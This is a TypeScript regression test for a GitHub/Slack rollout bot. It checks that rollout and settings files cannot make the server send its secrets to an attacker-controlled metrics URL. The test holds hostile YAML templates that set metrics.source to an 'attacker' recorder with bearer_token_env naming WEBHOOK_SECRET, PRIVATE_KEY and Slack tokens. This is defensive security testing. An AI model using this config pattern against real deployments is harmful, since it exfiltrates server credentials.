import { type ChildProcess, spawn } from "node:child_process";
import { generateKeyPairSync } from "node:crypto";
import { Octokit } from "@octokit/rest";
import { afterEach, describe, expect, it } from "vitest";
import { type FakeGitHub, startFakeGitHub } from "../fakes/github/fake-github.ts";
import { type FakeSlack, startFakeSlack } from "../fakes/slack/fake-slack.ts";
import { startRecorder } from "../helpers/attacker.ts";
import { freePort, waitFor } from "../helpers/processes.ts";
import { deliver, examplePayload } from "../helpers/webhooks.ts";
import { sign as slackSign } from "../slack/slack-harness.ts";

/**
 * Issue 11, finding 1, as reported: rollout files pointing `metrics.source` at a loopback "attacker"
 * with `bearer_token_env: WEBHOOK_SECRET` (and the four other secrets) received all five within 12 s.
 * Here the same files go to `node dist/server.js` (GitHub App on the fake GitHub, Slack on the fake
 * Slack, evaluating every second): nothing reaches the attacker, the files are invalid with file:line
 * in the PR check and in Slack, and the operator's `default` source gets the queries of a valid rollout.
 */

const { privateKey } = generateKeyPairSync("rsa", {
  modulusLength: 2048,
  privateKeyEncoding: { type: "pkcs1", format: "pem" },
  publicKeyEncoding: { type: "spki", format: "pem" },
});

const SECRETS = {
  WEBHOOK_SECRET: "webhook-secret-0123456789",
  PRIVATE_KEY: privateKey,
  SLACK_BOT_TOKEN: "xoxb-1111-2222-secretbottoken",
  SLACK_SIGNING_SECRET: "slack-signing-secret-0123456789",
  ALERT_WEBHOOK_TOKEN: "alert-token-0123456789abcdef",
};
const PROMETHEUS_TOKEN = "operator-prometheus-token";

const hostile = (attacker: string, variable: string) => `metrics:
  source:
    url: ${attacker}/${variable}
    bearer_token_env: ${variable}
    timeout: 7d
  queries:
    error_rate: "sum(rate(errors[5m]))"
stages:
  - percent: 10
    criteria:
      - { metric: error_rate, below: 1% }
  - percent: 100
state:
  percent: 10
  phase: baking
  started_at: 2026-11-22T08:00:00Z
`;

const VALID = `metrics:
  queries:
    error_rate: "sum(rate(errors[5m]))"
stages:
  - percent: 10
    criteria:
      - { metric: error_rate, below: 1% }
  - percent: 100
state:
  percent: 10
  phase: baking
  started_at: 2026-11-22T08:00:00Z
`;

let child: ChildProcess | undefined;
const closers: (() => Promise<void>)[] = [];
afterEach(async () => {
  child?.kill("SIGTERM");
  child = undefined;
  for (const close of closers.splice(0).reverse()) await close();
});

describe("metrics sources are the operator's (node dist/server.js)", () => {
  it("no rollout or settings file sends a server secret anywhere; the files are invalid with file:line", async () => {
    const attacker = await startRecorder();
    const prometheus = await startRecorder();
    const replies = await startRecorder((_req, res) => {
      res.end("ok");
    });
    const fake: FakeGitHub = await startFakeGitHub();
    const slack: FakeSlack = await startFakeSlack({ token: SECRETS.SLACK_BOT_TOKEN });
    closers.push(attacker.close, prometheus.close, replies.close, fake.close, slack.close);

    const names = Object.keys(SECRETS);
    const files: Record<string, string> = {
      ".github/rollouts/checkout.yml": VALID,
      ".github/rollout-bot.yml": `metrics:\n  source: { url: "${attacker.url}/settings", basic_auth_env: PRIVATE_KEY }\n`,
    };
    names.forEach((name, i) => {
      files[`.github/rollouts/evil-${i + 1}.yml`] = hostile(attacker.url, name);
    });
    fake.state.seedRepo({ owner: "acme", name: "shop", files, collaborators: { carol: "admin" } });

    const port = await freePort();
    child = spawn(process.execPath, ["dist/server.js"], {
      env: {
        PATH: process.env.PATH,
        PORT: String(port),
        HOST: "127.0.0.1",
        APP_ID: "1",
        GHE_HOST: fake.host,
        GHE_PROTOCOL: "http",
        SLACK_API_URL: slack.url,
        SLACK_TEAM_ID: "T0TEAM",
        PROMETHEUS_URL: prometheus.url,
        PROMETHEUS_BEARER_TOKEN: PROMETHEUS_TOKEN,
        EVALUATION_CRON: "* * * * * *",
        LOG_LEVEL: "silent",
        AWS_SECRET_ACCESS_KEY: "aws-secret-do-not-send",
        ...SECRETS,
      },
      stdio: "ignore",
    });
    const base = `http://127.0.0.1:${port}`;
    await waitFor("healthz", async () => ((await fetch(`${base}/healthz`)).ok ? true : undefined), 20_000);
    // The loop runs (today's code sent the secrets within its first passes)...
    await waitFor(
      "the loop's first queries",
      async () => (prometheus.received.length + attacker.received.length > 0 ? true : undefined),
      20_000,
    );
    expect(attacker.received).toEqual([]);
    // ...and the valid rollout's query reaches the operator's Prometheus with the operator's token.
    expect(prometheus.received[0]?.headers.authorization).toBe(`Bearer ${PROMETHEUS_TOKEN}`);

    // Slack: list (which evaluated every rollout before) and validate, signed as Slack signs.
    const command = async (text: string, n: number) => {
      const body = new URLSearchParams({
        team_id: "T0TEAM",
        channel_id: "C0DEPLOYS",
        user_id: "U0LEAD01",
        user_name: "lead",
        command: "/rollout",
        text,
        response_url: `${replies.url}/commands/${n}`,
        trigger_id: `${n}.trigger`,
      }).toString();
      const ack = await fetch(`${base}/slack/events`, {
        method: "POST",
        headers: {
          "content-type": "application/x-www-form-urlencoded",
          ...slackSign(body, Math.floor(Date.now() / 1000), SECRETS.SLACK_SIGNING_SECRET),
        },
        body,
      });
      expect(ack.status).toBe(200);
      await waitFor(`the reply to ${text}`, async () =>
        replies.received.some((r) => r.url === `/commands/${n}`) ? true : undefined,
      );
      return replies.received.find((r) => r.url === `/commands/${n}`)?.body ?? "";
    };
    expect(await command("list", 1)).toContain("evil-1.yml is invalid");
    const validate = await command("validate", 2);
    expect(validate).toContain(
      "evil-1.yml: 2 problem(s): 5:14 metrics.source.timeout: a metrics timeout is more than 0s and at most 60s; 3:5 metrics.source: name a metrics source the operator defines",
    );
    expect(validate).toContain("rollout-bot.yml: 1 problem(s): 2:11 metrics.source: name a metrics source");

    // A pull request changing one of them: the config check names the line.
    fake.state.push("acme/shop", {
      branch: "evil",
      files: { ".github/rollouts/evil-1.yml": hostile(attacker.url, "SLACK_BOT_TOKEN") },
    });
    fake.state.addToken("user-carol", "carol");
    const carol = new Octokit({ auth: "user-carol", baseUrl: fake.url });
    const pr = await carol.rest.pulls.create({
      owner: "acme",
      repo: "shop",
      head: "evil",
      base: "main",
      title: "x",
    });
    const payload = examplePayload("pull_request", "opened", { owner: "acme", name: "shop" });
    payload.pull_request = {
      ...(payload.pull_request as object),
      number: pr.data.number,
      head: { ...(payload.pull_request as { head: object }).head, ref: "evil", sha: pr.data.head.sha },
      body: "x",
    };
    const delivered = await deliver(
      `${base}/api/github/webhooks`,
      "pull_request",
      payload,
      SECRETS.WEBHOOK_SECRET,
    );
    expect(delivered.status).toBe(200);
    const check = await waitFor("the config check", async () =>
      fake.state.repo("acme/shop").checkRuns.find((c: { name: string }) => c.name === "rollout config"),
    );
    expect(check).toMatchObject({ conclusion: "failure" });
    expect(check.output?.annotations).toEqual([
      expect.objectContaining({
        path: ".github/rollouts/evil-1.yml",
        start_line: 5,
        annotation_level: "failure",
      }),
      expect.objectContaining({
        path: ".github/rollouts/evil-1.yml",
        start_line: 3,
        message: expect.stringContaining("name a metrics source the operator defines"),
      }),
    ]);

    // Several more passes of the loop, then: nothing ever reached the attacker.
    const passes = prometheus.received.length;
    await waitFor(
      "three more passes",
      async () => (prometheus.received.length >= passes + 3 ? true : undefined),
      20_000,
    );
    expect(attacker.received).toEqual([]);
    const seen = `${prometheus.everything()}${JSON.stringify(slack.calls)}${replies.everything()}`;
    for (const [name, value] of Object.entries({ ...SECRETS, AWS: "aws-secret-do-not-send" }))
      expect(seen.includes(value), name).toBe(false);
  }, 90_000);
});
